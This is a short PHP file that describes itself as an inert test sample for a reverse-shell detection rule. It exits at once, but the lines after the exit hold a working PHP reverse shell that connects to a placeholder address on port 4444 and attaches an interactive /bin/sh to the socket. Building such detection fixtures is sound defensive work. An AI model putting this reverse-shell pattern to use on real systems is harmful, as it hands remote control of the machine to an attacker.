<?php
// Test sample for RAMPART_ReverseShell_PHP_Fsockopen: inert, it exits first.
exit(0);
$sock = fsockopen("192.0.2.10", 4444);
exec("/bin/sh -i <&3 >&3 2>&3");
